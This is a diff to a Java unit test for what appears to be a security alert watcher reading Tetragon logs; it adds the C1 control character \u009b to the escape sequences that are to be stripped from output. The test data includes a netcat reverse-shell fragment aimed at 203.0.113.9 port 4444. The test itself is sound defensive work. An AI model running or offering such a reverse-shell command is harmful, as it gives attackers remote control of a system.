@@ -400,10 +400,11 @@ final class HiveCommandTest {
 
     @Test
     void watch_alertWithControlCharacters_printsNone() throws IOException {
-        String colours = NC.replace("203.0.113.9 4444 -e /bin/sh", "203.0.113.9 4444 -e /bin/sh \\u001b[31m\\u202e");
+        String colours =
+                NC.replace("203.0.113.9 4444 -e /bin/sh", "203.0.113.9 4444 -e /bin/sh \\u001b[31m\\u009b31m\\u202e");
         Run run = Run.hive("watch", "--from", "tetragon", write("nc.jsonl", colours));
         assertThat(run.status()).isEqualTo(ExitStatus.FOUND);
-        assertThat(run.out()).doesNotContain("\u001b", "\u202e");
+        assertThat(run.out()).doesNotContain("\u001b", "\u009b", "\u202e");
     }
 
     private static String verdict(Run run, String name) throws IOException {
